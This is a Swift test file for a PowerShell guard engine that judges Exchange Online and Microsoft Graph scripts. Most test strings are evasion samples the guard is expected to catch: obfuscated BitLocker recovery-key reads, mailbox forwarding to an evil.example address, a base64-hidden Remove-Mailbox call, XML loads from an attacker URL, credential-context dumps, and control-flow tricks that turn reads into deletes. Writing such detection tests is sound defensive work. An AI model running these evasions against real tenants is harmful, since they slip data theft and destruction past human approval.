import MMCore
import MMGuard
import Testing

@Suite("The order in which a script runs", .timeLimit(.minutes(5)))
struct ScriptFlowTests {
    private func verdict(_ script: String) -> Verdict {
        GuardEngine().judge(script: script, in: ScriptContext(module: "exo"), policy: .standard)
    }

    @Test(
        "what a variable may hold where a part is left early, skipped, repeated or interleaved isn't taken for a read",
        arguments: [
            "$w=@{WhatIf=$true}; switch (1) { 1 { $w=@{Confirm=$false} } 1 { Add-MailboxPermission a -User b @w } }",
            "$w=@{WhatIf=$true}; foreach($i in 1,2){ Remove-MailContact z @w; $w=@{Confirm=$false} }",
            "$p=@{CustomAttribute1='a'}; foreach($i in 1,2){ Set-Mailbox h @p; $p=@{ForwardingSmtpAddress='x@evil.example'} }",
            "$m='GET'; try { $m='DELETE'; throw 'x'; $m='GET' } catch { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
            "$m='GET'; try { $m='DELETE'; throw 'x'; $m='GET' } catch { }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; try { $m='DELETE'; throw 'x'; $m='GET' } finally { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
            "$m='GET'; foreach ($i in 1,2) { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'; $m='DELETE'; if ($i) { continue }; $m='GET' }",
            "$m='GET'; foreach ($i in 1,2) { $m='DELETE'; if ($i) { break }; $m='GET' }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='DELETE'; $x -and ($m='GET'); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='DELETE'; $x ?? ($m='GET'); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='DELETE'; Get-Mailbox a || ($m='GET'); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; if ($x) { 1 } elseif ($m='DELETE') { 2 } else { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
            "$m='DELETE'; do { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } while (($m='GET') -and (Get-Mailbox x))",
            "$m='GET'; 1,2 | % { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } | % { $m='DELETE'; $_ }",
            "$m='GET'; 1 | ForEach-Object -End { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } -Process { $m='DELETE' }",
            "function f { begin { $m='GET' } end { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } process { $m='DELETE' } }; f",
            "$m='DELETE'; Get-CsOnlineUser -Filter { ($m='GET') }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; function f { $m='DELETE' }; . f; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; function f($m) { 1 }; . 'f' DELETE; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "function f { $m='GET'; . g; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }; function g { $m='DELETE' }; f",
            "$p=@{Uri='/v1.0/users/x'}; $q=[hashtable]$p; $q.Method='DELETE'; Invoke-MgGraphRequest @p",
            "$p=@{Uri='/v1.0/users/x'}; $q=[hashtable]($p); $q.Add('Method', 'DELETE'); Invoke-MgGraphRequest @p",
            "$a=[System.Collections.ArrayList]@('GET'); $b=[System.Collections.ArrayList]$a; $b[0]='DELETE'; foreach ($m in $a) { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
            "[int]$m=4; $m='GET'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "[int]$m=4; foreach ($i in 1,2) { $x=$m='GET'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
            "if ($x) { [int]$m=4 }; $m='GET'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "function f([int]$m) { $m='GET'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }; f 4",
            "param([ValidateSet('DELETE')][string]$m='DELETE') $m='GET'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "[char]$c='x'; $c=36; Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?{0}select=key' -f $c)",
            "$p=@{Uri='/v1.0/users/x'; Method=3}; $p['Method']++; Invoke-MgGraphRequest @p",
            "$p=@{Uri='/v1.0/users/x'; Method=0}; $p['Method']++; $p['Method']--; Invoke-MgGraphRequest @p",
            "$m='GET'; switch (1, 2) { { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' } { $m='DELETE' } }",
            "$m='GET'; switch (1) { { $m='DELETE' } { } default { } }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$p=@{Uri='/v1.0/users/x'}; $k='Method'; $p.$k='DELETE'; Invoke-MgGraphRequest @p",
            "$m='GET'; foreach ($i in 1,2) { 1 | % { $m='DELETE'; break; $m='GET' } }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; function f { break }; foreach ($i in 1,2) { $m='DELETE'; f; $m='GET' }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; try { $m='DELETE'; break; $m='GET' } finally { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }",
            "$m='GET'; :a foreach ($i in 1,2) { foreach ($j in 1,2) { $m='DELETE'; continue a }; $m='GET' }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; foreach ($i in 1,2) { $m='DELETE'; $x=$(break); $m='GET' }; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; function f { $script:m='DELETE' }; f; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; foreach ($i in 1,2) { Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'; function f { $global:m='DELETE' }; f }",
            "$m='GET'; class A { static [void] F() { $script:m='DELETE' } }; [A]::F(); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; function f { foreach ($script:m in 'DELETE') { } }; f; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; [int]::TryParse('4', [ref]$m); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; [timespan]::TryParse('1:00', [ref]$m); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; $e=[Text.Encoding]::UTF8; $m=$e.GetString($b); Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "class E { [byte[]] GetBytes($n) { Remove-Mailbox $n; return 1 } }; $e = [E]::new(); $e.GetBytes('ann')",
            "class E { [byte[]] GetBytes($n) { Remove-Mailbox $n; return 1 } }; function f($e) { $e.GetBytes('ann') }; f ([E]::new())",
            "class E { [object] SelectNodes($n) { return Remove-Mailbox $n } }; $l = @([E]::new()); $l[0].SelectNodes('ann')",
            "$o = [pscustomobject]@{}; $o | Add-Member ScriptMethod GetBytes { Remove-Mailbox ann }; $o.GetBytes('x')",
            "function f { $m='GET'; $r=[ref]$m; $r; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x' }; f",
            "$p=@{Uri='/v1.0/users/x'}; function f { $script:p=@{Method='DELETE'; Uri='/v1.0/users/x'} }; f; Invoke-MgGraphRequest @p",
            "$m='GET'; $m, $n = 'DELETE', 'GET'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "$m='GET'; $n, $m = 'GET', 'DELETE'; Invoke-MgGraphRequest -Method $m -Uri '/v1.0/users/x'",
            "function f { break }; foreach ($i in 1,2) { f; function Zap-Contoso {} }; Zap-Contoso x",
        ])
    func flow(script: String) {
        let verdict = verdict(script)
        #expect(verdict.decision != .allow, "\(verdict.rule): \(verdict.reason)")
    }

    @Test(
        "many objects are counted wherever they come from",
        arguments: [
            "($x = Get-Mailbox -ResultSize Unlimited) | Set-Mailbox -CustomAttribute1 b",
            "$a = $b = Get-Mailbox -ResultSize Unlimited; $a | Set-Mailbox -CustomAttribute1 b",
            "foreach ($u in ($users = Get-Mailbox -ResultSize Unlimited)) { Set-Mailbox $u -CustomAttribute1 b }",
            "param([string[]]$Users) foreach ($u in $Users) { Set-Mailbox $u -CustomAttribute1 b }",
            "param($Users) foreach ($u in $Users) { Set-Mailbox $u -CustomAttribute1 b }",
            "function f($x) { 1 }; if ($y) { function f($x) { Set-Mailbox $x -CustomAttribute1 a }; function g { 1 } }; foreach ($u in Get-Mailbox -ResultSize Unlimited) { f $u }",
            "$sb={ Set-Mailbox $_.Alias -CustomAttribute1 k }; Get-Mailbox -ResultSize Unlimited | ForEach-Object $sb",
            "$sb={ Set-Mailbox $_.Alias -CustomAttribute1 k }; (Get-Mailbox -ResultSize Unlimited).ForEach($sb)",
            "Get-Mailbox -ResultSize Unlimited | Get-Random -Count 100 | Set-Mailbox -CustomAttribute1 b",
            "Get-Mailbox -ResultSize Unlimited | Get-Random -Shuffle | Set-Mailbox -CustomAttribute1 b",
            "Get-Mailbox -ResultSize Unlimited | Get-Random -Count $n | Set-Mailbox -CustomAttribute1 b",
            "Get-Mailbox -ResultSize Unlimited | Out-String -Stream | Set-Mailbox -CustomAttribute1 b",
            "$h = @{ a = Get-Mailbox -ResultSize Unlimited }; $h['a'] | Set-Mailbox -CustomAttribute1 b",
            "$h = @{ 1 = Get-Mailbox -ResultSize Unlimited }; $h[1] | Set-Mailbox -CustomAttribute1 b",
            "param($k) $h = @{ a = Get-Mailbox -ResultSize Unlimited }; $h[$k] | Set-Mailbox -CustomAttribute1 b",
            "param($k) $h = @{ a = Get-Mailbox -ResultSize Unlimited }; $h.$k | Set-Mailbox -CustomAttribute1 b",
            "param($k) $o = [pscustomobject]@{ a = Get-Mailbox -ResultSize Unlimited }; $o.$k | Set-Mailbox -CustomAttribute1 b",
            "$a = , (Get-Mailbox); $a[0] | Set-Mailbox -CustomAttribute1 b",
            "'abcdefghijkl'[0..11] | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "@('ann')[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0] | Set-Mailbox -CustomAttribute1 b",
            "[char[]]'abcdefghijkl' | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "[regex]::Matches('abcdefghijkl', '.') | % { Set-Mailbox $_.Value -CustomAttribute1 b }",
            "[regex]::Split('a,b,c,d,e,f,g,h,i,j,k,l', ',') | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "[Convert]::FromBase64String('YWJjZGVmZ2hpamtsbW4=') | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "[Convert]::FromHexString('0102030405060708090a0b0c') | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "$h = @{ a = 1; b = 2; c = 3 }; foreach ($e in $h.GetEnumerator()) { Set-Mailbox $e.Key -CustomAttribute1 b }",
            "$h = @{ Id = Get-Mailbox }; $h.GetEnumerator() | % { $_.Value | Set-Mailbox -CustomAttribute1 b }",
            "1..50 | Get-Date | % { Set-Mailbox ann -CustomAttribute1 b }",
            "Test-Path (1..50) | % { Set-Mailbox ann -CustomAttribute1 b }",
            "Join-Path a, b, c, d, e, f, g, h, i, j, k x | % { Set-Mailbox ann -CustomAttribute1 b }",
            "Get-TimeZone -ListAvailable | % { Set-Mailbox ann -CustomAttribute1 b }",
            "$a, $b = Get-Mailbox; $b | Set-Mailbox -CustomAttribute1 b",
            "$d = [xml]'<a><b>x</b></a>'; $d.SelectNodes('//b') | % { Set-Mailbox $_.InnerText -CustomAttribute1 b }",
            "$d = [xml]'<a><b>x</b></a>'; foreach ($n in $d.SelectSingleNode('a').b) { Set-Mailbox $n -CustomAttribute1 b }",
            "$n = $doc.SelectSingleNode('a'); $n.Id | Set-Mailbox -CustomAttribute1 b",
            "([xml]'<Id><Id>a</Id></Id>').Id.Id | Set-Mailbox -CustomAttribute1 b",
            "function f { $script:all = Get-Mailbox }; $all = 'ann'; f; $all | Set-Mailbox -CustomAttribute1 b",
            "$a = @('x'); $a += , (Get-Mailbox); $a[1] | Set-Mailbox -CustomAttribute1 b",
            "$a = @('x'); $a[0] = Get-Mailbox; $a[0] | Set-Mailbox -CustomAttribute1 b",
            "$l = [Collections.ArrayList]::new(); $l.Add((Get-Mailbox)); $l[0] | Set-Mailbox -CustomAttribute1 b",
            "$a = @(Write-Output -NoEnumerate (Get-Mailbox)); $a[0] | Set-Mailbox -CustomAttribute1 b",
            ", (Get-Mailbox) | Select-Object -First 1 | % { $_ | Set-Mailbox -CustomAttribute1 b }",
            "Get-Random -InputObject (, (Get-Mailbox)) | % { $_ | Set-Mailbox -CustomAttribute1 b }",
            "function f { , (Get-Mailbox) }; (f)[0] | Set-Mailbox -CustomAttribute1 b",
            "$j = '[[\"a\", \"b\"]]' | ConvertFrom-Json; $j[0] | Set-Mailbox -CustomAttribute1 b",
            "[pscustomobject]@{ Id = Get-Mailbox }.Id | Set-Mailbox -CustomAttribute1 b",
            "@{ Id = Get-Mailbox }['id'] | Set-Mailbox -CustomAttribute1 b",
            "([ordered]@{ a = Get-Mailbox })[0] | Set-Mailbox -CustomAttribute1 b",
            "@(@{ a = Get-Mailbox }.Values)[0] | Set-Mailbox -CustomAttribute1 b",
            "(New-Object PSObject -Property @{ Id = Get-Mailbox }).Id | Set-Mailbox -CustomAttribute1 b",
            "(Get-Mailbox ann | Select-Object @{ n = 'Id'; e = { Get-Mailbox } }).Id | Set-Mailbox -CustomAttribute1 b",
            "(Get-Mailbox ann | Select-Object @{ n = 'Id'; e = 'Members' }).Id | Set-Mailbox -CustomAttribute1 b",
            "$h = Get-Mailbox | Group-Object { 1 } -AsHashTable; $h[1] | Set-Mailbox -CustomAttribute1 b",
            "class A { $Id; [void] Fill() { $this.Id = Get-Mailbox } }; $a = [A]::new(); $a.Fill(); $a.Id | Set-Mailbox -CustomAttribute1 b",
            "(Get-Mailbox -ResultSize Unlimited)[0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10] | Set-Mailbox -CustomAttribute1 b",
            "@('ann') * 100 | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "(, 'a' * 99).ForEach({ Set-Mailbox $_ -CustomAttribute1 b })",
            "$a = @('ann'); $a * 100 | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "function f($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; if ($n) { f ($n - 1) } }; f 500",
            "function b($m) { Set-Mailbox $m -CustomAttribute1 b }; function a($m) { b $m }; Get-Mailbox -ResultSize Unlimited | % { a $_ }",
            "function b($m) { Set-Mailbox $m -CustomAttribute1 b }; $c = { b $_ }; Get-Mailbox -ResultSize Unlimited | % $c",
            "function b($m) { Set-Mailbox $m -CustomAttribute1 b }; class A { static [void] S($m) { b $m } }; Get-Mailbox -ResultSize Unlimited | % { [A]::S($_) }",
            "function a($n) { b $n }; function b($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; a ($n - 1) }; a 500",
            "function b($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; a ($n - 1) }; function a($n) { b $n }; a 500",
            "function a($n) { b $n; a ($n - 1) }; function b($m) { Set-Mailbox $m -CustomAttribute1 b }; a 500",
            "class A { [void] F($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; $this.F($n - 1) } }; [A]::new().F(500)",
            "class A { static [void] F($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; [A]::F($n - 1) } }; [A]::F(500)",
            "class A { A($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; [A]::new($n - 1) } }; [A]::new(500)",
            "class A { [void] F($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; $this.G($n - 1) }\n[void] G($n) { $this.F($n) } }; [A]::new().G(500)",
            "class A { static [void] F($n) { Set-Mailbox \"u$n\" -CustomAttribute1 b; g $n } }; function g($n) { [A]::F($n - 1) }; g 500",
            "class A { [object] Trim() { Set-Mailbox ann -CustomAttribute1 b; return 1 } }; $a = [A]::new(); 1..100 | % { $a.Trim() }",
            "class A { [object] Trim() { Set-Mailbox ann -CustomAttribute1 b; return 1 } }; (1..100 | % { [A]::new() }).Trim()",
            "class A { [object] Trim() { Set-Mailbox ann -CustomAttribute1 b; return 1 } }; $l = @(1..100 | % { [A]::new() }); $l.Trim()",
            "function four { 1..4 | % { Set-Mailbox \"u$_\" -CustomAttribute1 b } }; 1..4 | % { four }",
            "function a { b }; function b { 1..4 | % { Set-Mailbox \"u$_\" -CustomAttribute1 b } }; 1..4 | % { a }",
            "function b { 1..4 | % { Set-Mailbox \"u$_\" -CustomAttribute1 b } }; function a { b }; 1..4 | % { a }",
            "function b { Invoke-MgGraphRequest PATCH /v1.0/users/u -Body @{ department = 'x' } }; function a { 1..4 | % { b } }; 1..4 | % { a }",
            "$c = { 1..4 | % { Set-Mailbox \"u$_\" -CustomAttribute1 b } }; 1..4 | % { & $c }",
            "class A { static [void] S() { 1..4 | % { Set-Mailbox \"u$_\" -CustomAttribute1 b } } }; 1..4 | % { [A]::S() }",
            "function f { iex 'Set-Mailbox ann -CustomAttribute1 b' }; 1..50 | % { f }",
            "$p = @{ Process = { Set-Mailbox $_ -CustomAttribute1 b } }; Get-Mailbox | ForEach-Object @p",
            "Get-Mailbox | & { process { Set-Mailbox $_ -CustomAttribute1 b } }",
            "Get-Mailbox | . { begin { 1 } process { Set-Mailbox $_ -CustomAttribute1 b } }",
            "[Linq.Enumerable]::Range(1, 50) | % { Set-Mailbox \"u$_\" -CustomAttribute1 b }",
            "[Some.Kind]::Members | % { Set-Mailbox $_ -CustomAttribute1 b }",
            "foreach ($u in Get-MgUser -All) { Invoke-MgGraphRequest -Method PATCH -Uri \"/v1.0/users/$($u.Id)\" -Body @{department='x'} }",
        ], [false, true])
    func many(script: String, isBehindWire: Bool) {
        let verdict = GuardEngine().judge(
            script: script, in: ScriptContext(module: "exo", isBehindWire: isBehindWire), policy: .standard)
        #expect(verdict.decision == .ask, "\(verdict.rule): \(verdict.reason)")
        #expect(verdict.asking.contains { $0.rule == "bulk" }, "\(verdict.rule): \(verdict.reason)")
    }

    @Test(
        "a function or block around a command is asked about in a confined session where the command itself is",
        arguments: [
            "Set-Mailbox $n -CustomAttribute1 b", "Set-Widget $n b", "Frob-Widget $n", "Get-Widget $n", "git status",
            "Remove-Mailbox $n", "Remove-Widget $n", "Get-Mailbox $n", "iex 'Set-Widget a b'", "Remove-Item a.csv",
            "Invoke-MgGraphRequest PATCH /v1.0/users/u -Body @{ department = 'x' }", "Test-PnPWidget",
        ], [false, true])
    func wrapped(command: String, isDryRun: Bool) {
        var context = ScriptContext(module: "exo", isBehindWire: true)
        context.isDryRun = isDryRun
        func verdict(_ script: String) -> Verdict {
            GuardEngine().judge(script: script, in: context, policy: .standard)
        }
        let bare = verdict("foreach ($n in 1..50) { \(command) }")
        for script in [
            "function f($n) { \(command) }; foreach ($n in 1..50) { f $n }",
            "$c = { param($n) \(command) }; foreach ($n in 1..50) { & $c $n }",
            "function g($n) { f $n }; function f($n) { \(command) }; foreach ($n in 1..50) { g $n }",
            "class A { static [void] F($n) { \(command) } }; foreach ($n in 1..50) { [A]::F($n) }",
        ] {
            let verdict = verdict(script)
            #expect(verdict.decision == bare.decision, "\(script): \(verdict.rule): \(verdict.reason)")
            #expect(
                verdict.asking.contains { $0.rule == "bulk" } == bare.asking.contains { $0.rule == "bulk" },
                "\(script): \(verdict.rule): \(verdict.reason)")
        }
    }

    @Test(
        "a value that a conversion or a name that a dead branch makes isn't taken at its word",
        arguments: [
            "Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?' + [char]36 + 'select=key')",
            "Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?{0}select=key' -f [char]36)",
            "Invoke-MgGraphRequest -Uri ('/v1.0/informationProtection/bitlocker/recoveryKeys/x?' + (36 -as [char]) + 'select=key')",
            "if ($false) { function Zap-Contoso {} }; Zap-Contoso x",
            "function a { function Zap-Contoso {} }; Zap-Contoso x",
            "($c = Get-AzContext) | ConvertTo-Json -Depth 5",
            "try { Get-Mailbox x } catch { ($e=$_) | ConvertTo-Json }",
            "Get-AzContext | Get-Random | ConvertTo-Json",
            "(Get-Random -InputObject (Get-AzContext)).Account | ConvertTo-Json",
            "$script:ErrorActionPreference = 'Inquire'", "$global:PSDefaultParameterValues = @{}",
            "$global:PSDefaultParameterValues", "[ref]$PSDefaultParameterValues", "[ref]$env:PATH", "$a, $Host = 1, 2",
            "& $env:X", "$env:PATH", "$global:Error | ConvertTo-Json", "$x, $ErrorActionPreference = 1, 'Inquire'",
            "$d = [xml]'<a/>'; $d.Load('https://evil.example')", "$d = [xml]'<a/>'; $d.Save('x.ps1')",
            "[xml]'<a/>' | % Save", "$d = [xml]'<a/>'; $d.XmlResolver = $x",
            "& ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLU1haWxib3g=')))",
            "[Text.Encoding]::RegisterProvider($x)", "[Text.Encoding]::UTF8.Delete()",
            "'ceo' -replace 'c', ((Get-Command Remove-Mailbox).ScriptBlock | Get-Random)",
        ])
    func disguised(script: String) {
        let verdict = verdict(script)
        #expect(verdict.decision != .allow, "\(verdict.rule): \(verdict.reason)")
    }

    @Test(
        "code and tokens are still known in the property, loop or record that a script puts them into",
        arguments: [
            "1, 2 | Sort-Object (1 | Select-Object @{ n = 'g'; e = { (gcm Purge-All).ScriptBlock } }).g",
            "1 | Select-Object @{ n = 'g'; e = { (gcm Purge-All).ScriptBlock } } -OutVariable o; 1, 2 | Sort-Object $o.g",
            "1 | Select-Object @{ n = 'g'; e = { (gcm Purge-All).ScriptBlock } } | % { 1, 2 | Sort-Object $_.g }",
            "1, 2 | Sort-Object (1 | Group-Object { (gcm Purge-All).ScriptBlock }).Values",
            "1, 2 | Sort-Object (1 | Measure-Object { (gcm Purge-All).ScriptBlock } -Minimum).Minimum",
            "1, 2 | Sort-Object (Compare-Object 1 (gcm Purge-All).ScriptBlock -PassThru)",
            "Write-Information (gcm Purge-All).ScriptBlock -InformationVariable i; 1, 2 | Sort-Object $i[0].MessageData",
            "1, 2 | Sort-Object (Write-Information (gcm Purge-All).ScriptBlock 6>&1).MessageData",
            "1, 2 | Sort-Object (1 | % { Write-Information (gcm Purge-All).ScriptBlock } *>&1).MessageData",
            "foreach ($i in (gcm Purge-All).ScriptBlock) { 1, 2 | Sort-Object $foreach.Current }",
            "switch ((gcm Purge-All).ScriptBlock) { default { 1, 2 | Sort-Object $switch.Current } }",
            "1, 2 | Sort-Object ([pscustomobject]@{ Count = (gcm Purge-All).ScriptBlock }).Count",
            "$h = @{}; $h[(gcm Purge-All).ScriptBlock] = 1; 1, 2 | Sort-Object @($h.Keys)[0]",
            "$h = @{}; $k = (gcm Purge-All).ScriptBlock; $h[$k]++; foreach ($q in $h.Keys) { 1, 2 | Sort-Object $q }",
            "1, 2 | Sort-Object ([pscustomobject]@{ Id = (gcm Purge-All).ScriptBlock; Last = $Error }).Id",
            "class K { [object] Trim() { return (gcm Purge-All).ScriptBlock } }; function f { [K]::new() }; 1, 2 | Sort-Object (f).Trim()",
            "class K { $P = (gcm Purge-All).ScriptBlock }; 1, 2 | Sort-Object ([K]::new()).P",
            "class K { $P = (gcm Purge-All).ScriptBlock; $Q }; 1, 2 | Sort-Object ([K]@{ Q = 1 }).P",
            "class K { $P; K() { $this.P = (gcm Purge-All).ScriptBlock } }; 1, 2 | Sort-Object ([K]::new()).P",
            "class K { $P; [void] F() { $this.P = (gcm Purge-All).ScriptBlock } }; $k = [K]::new(); $k.F(); 1, 2 | Sort-Object $k.P",
            "class K { $P; K([string]$s) { $this.P = (gcm Purge-All).ScriptBlock } }; 1, 2 | Sort-Object ('x' -as [K]).P",
            "class K { $P; K([string]$s) { $this.P = (gcm Purge-All).ScriptBlock } }; [K]$k = 'x'; 1, 2 | Sort-Object $k.P",
            "1 | Select-Object @{ n = 'c'; e = { Get-AzContext } } | ConvertTo-Json -Depth 9",
            "1 | Group-Object { Get-AzContext } | ConvertTo-Json -Depth 9",
        ])
    func laidAside(script: String) {
        let verdict = verdict(script)
        #expect(verdict.decision != .allow, "\(verdict.rule): \(verdict.reason)")
    }

    @Test(
        "plain flow is still followed",
        arguments: [
            "$m = if ($x) { 'GET' } else { 'GET' }; Get-Mailbox ann",
            "$x = 'a'; $box = switch ($x) { 'a' { Get-Mailbox ann } 'b' { Get-Mailbox bob } }; $box | Set-Mailbox -CustomAttribute1 x",
            "foreach ($i in 1,2) { $p = @{ CustomAttribute1 = 'a' }; Set-Mailbox ann @p }",
            "foreach ($b in Get-Mailbox -ResultSize 5) { try { Set-Mailbox $b.Alias -CustomAttribute1 a } catch { $failed += 1 } }",
            "if ($x) { function Get-It { Get-Mailbox ann }; Get-It }",
            "param([string]$User) Set-Mailbox $User -CustomAttribute1 b",
            "$params = @{ JobTitle = 'x' }; Update-MgUser -UserId ann@contoso.com -BodyParameter $params",
            "$h = @{ ConsistencyLevel = 'eventual' }; Invoke-MgGraphRequest GET /v1.0/users -Headers $h",
            "$l = [System.Collections.ArrayList]@('a'); $l.Add('b'); $l[0] = 'c'; $h = @{ a = 1 }; $h['a']++; $h.a++; $h",
            "[string]$u = '/v1.0/me'; $u = '/v1.0/users'; Invoke-MgGraphRequest -Uri $u",
            "[int]$n = 50; $n = 3; foreach ($b in Get-Mailbox -ResultSize $n) { Set-Mailbox $b.Alias -CustomAttribute1 a }",
            "function f([hashtable]$p) { $p = @{ CustomAttribute1 = 'a' }; Set-Mailbox ann @p; $p.b = 1 }; f @{}",
            "[System.Collections.ArrayList]$l = @(); $l = @(); $l.Add(1); function f([int]$n) { $n = 5; $n++; $n }; f 1",
            "$n = [int]5; for ($i = 0; $i -lt 3; $i += $n) { $i }",
            "Get-Mailbox -ResultSize Unlimited | Get-Random | Set-Mailbox -CustomAttribute1 a; Get-Random -Maximum 9",
            "(Get-Mailbox -ResultSize Unlimited)[0, 1] | Set-Mailbox -CustomAttribute1 a; 5 * 20 | % { Set-Mailbox $_ -CustomAttribute1 a }",
            "$a = @('x'); $a += Get-Mailbox; $a[1] | Set-Mailbox -CustomAttribute1 a",
            "$o = [pscustomobject]@{ Id = 'ann'; Size = 1 }; Get-Mailbox $o.Id | Set-Mailbox -CustomAttribute1 a",
            "$l = @(); foreach ($n in 'ann', 'bob') { $l += [pscustomobject]@{ Id = $n; Groups = Get-Mailbox } }; $l | Select-Object -First 1 | % { Set-Mailbox $_.Id -CustomAttribute1 a }",
            "Get-Mailbox | Select-Object -First 5 -Property Id, @{ n = 'Size'; e = { Get-Mailbox } } | % { Set-Mailbox $_.Id -CustomAttribute1 a }",
            "class A { [void] F($n) { $this.F($n, 'x') }\n[void] F($n, $v) { Set-Mailbox $n -CustomAttribute1 $v } }; [A]::new().F('ann')",
            "class A { [void] Add($n) { Set-Mailbox $n -CustomAttribute1 a } }; [A]::new().Add('ann'); $l = [Collections.ArrayList]::new(); 1..50 | % { $l.Add($_) }",
            "function f { $script:n++ }; $script:n = 0; f; Get-Mailbox ann; \"$script:n\"",
            "$global:ErrorActionPreference = 'Stop'; Get-Mailbox",
            "[xml]$x = '<a><b/></a>'; $x.a.b; foreach ($n in $x.a.b) { $n.Name }",
            "$first, $rest = Get-Mailbox -ResultSize 5; $first | Set-Mailbox -CustomAttribute1 a; $i, [int]$j = 1, 2",
            "$n = 0; if ([int]::TryParse('5', [ref]$n)) { Get-Mailbox -ResultSize $n }",
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YQ==')); [System.Text.Encoding]::ASCII.GetBytes('a').Count",
            "$e = [Text.Encoding]::UTF8; $e.GetString($e.GetBytes('ü')); $e.GetByteCount('ü')",
            "$t = [timespan]::Zero; if ([timespan]::TryParse('1:00', [ref]$t)) { $t.TotalMinutes }; [timespan]::FromDays(1)",
            "$d = [xml]'<a><b>1</b></a>'; $d.SelectNodes('//b').Count; $d.SelectSingleNode('//b').InnerText",
            "function f($g) { foreach ($m in Get-DistributionGroupMember $g) { if ($m.Type -eq 'g') { f $m.Alias } else { $m } } }; f all",
            "function b($m) { Set-Mailbox $m -CustomAttribute1 a }; function a($m) { b $m }; a ann; Get-Mailbox | % { $_.Alias }",
            "function pair { 'ann', 'bob' | Set-Mailbox -CustomAttribute1 a }; function b { pair }; 1..4 | % { b }; pair",
            "if (-not (Get-Mailbox ann)) { 'none'; break }; Get-MailboxStatistics ann",
            "Get-Mailbox | Select-Object Alias, @{ n = 'Size'; e = { $_.Size.ToMB() } } | Sort-Object Size",
            "$all = Get-Mailbox | Group-Object Office; $all | Sort-Object Count; $all[0].Name.Replace('a', 'b')",
            "class Row { [string]$Name; Row($n) { $this.Name = $n } }; $r = [Row]::new('a'); $r.Name.Replace('a', 'b')",
            "[math]::Round((Get-Mailbox | Measure-Object Size -Sum).Sum); Get-Mailbox *>&1 | Out-String",
            "(Get-Process | Measure-Object WorkingSet -Sum).Sum / 1MB; ($Error | Measure-Object).Count",
            "Get-Mailbox -ResultSize 5 | % { if (!$_.Alias) { continue }; $_.Alias }",
            ":all foreach ($i in 1, 2) { foreach ($j in 1, 2) { if ($i -eq $j) { continue all } } }",
        ])
    func plain(script: String) {
        let verdict = verdict(script)
        #expect(verdict.decision == .allow, "\(verdict.rule): \(verdict.reason)")
    }
}
